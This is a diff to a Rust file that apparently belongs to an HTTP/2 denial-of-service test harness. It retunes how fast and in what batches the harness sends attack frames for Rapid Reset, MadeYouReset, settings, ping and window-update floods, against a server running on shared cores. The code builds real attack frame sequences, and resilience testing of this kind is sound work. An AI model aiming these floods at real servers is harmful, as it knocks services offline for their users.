@@ -48,8 +48,11 @@ const HOLD_LIMIT: Duration = Duration::from_secs(15);
 /// attacker's own TLS handshakes, unpaced, would compete with the load for
 /// the 2 cores it shares with the server (see slowloris.rs).
 const RECONNECT_EVERY: Duration = Duration::from_millis(250);
-/// Between two batches of attack frames on one connection.
-const BATCH_EVERY: Duration = Duration::from_millis(5);
+/// Between two batches of attack frames on one connection: short, with small
+/// batches, so that the attacker's CPU (which shares the 2 cores with the
+/// server and the load) is spread out rather than spent in spikes that the
+/// legitimate requests queue behind.
+const BATCH_EVERY: Duration = Duration::from_millis(1);
 /// An attack is in place once this many units are sent.
 const SETTLED_UNITS: u64 = 1;
 const RAMP_LIMIT: Duration = Duration::from_secs(10);
@@ -164,31 +167,31 @@ impl Kind {
         };
         match self {
             Kind::RapidReset => {
-                for _ in 0..20 {
+                for _ in 0..4 {
                     let id = stream();
                     frame(out, HEADERS, END_HEADERS | END_STREAM, id, &request(SMALL));
                     frame(out, RST_STREAM, 0, id, &CANCEL.to_be_bytes());
                 }
-                20
+                4
             }
             Kind::MadeYouReset => {
-                for _ in 0..20 {
+                for _ in 0..4 {
                     let id = stream();
                     frame(out, HEADERS, END_HEADERS | END_STREAM, id, &request(SLOW));
                     frame(out, WINDOW_UPDATE, 0, id, &0x7fff_ffffu32.to_be_bytes());
                 }
-                20
+                4
             }
             Kind::ContinuationFlood => continuation_flood(out, first),
             Kind::HeaderBomb => {
                 header_bomb(out, stream());
                 1
             }
-            Kind::SettingsFlood => repeat(out, 50, |out| {
+            Kind::SettingsFlood => repeat(out, 10, |out| {
                 settings(out, &[(SETTINGS_INITIAL_WINDOW_SIZE, 65_535)])
             }),
-            Kind::PingFlood => repeat(out, 50, |out| frame(out, PING, 0, 0, b"floodpng")),
-            Kind::WindowUpdateFlood => repeat(out, 50, |out| {
+            Kind::PingFlood => repeat(out, 10, |out| frame(out, PING, 0, 0, b"floodpng")),
+            Kind::WindowUpdateFlood => repeat(out, 10, |out| {
                 frame(out, WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes())
             }),
             Kind::ZeroWindowStall if first => repeat(out, 200, |out| {
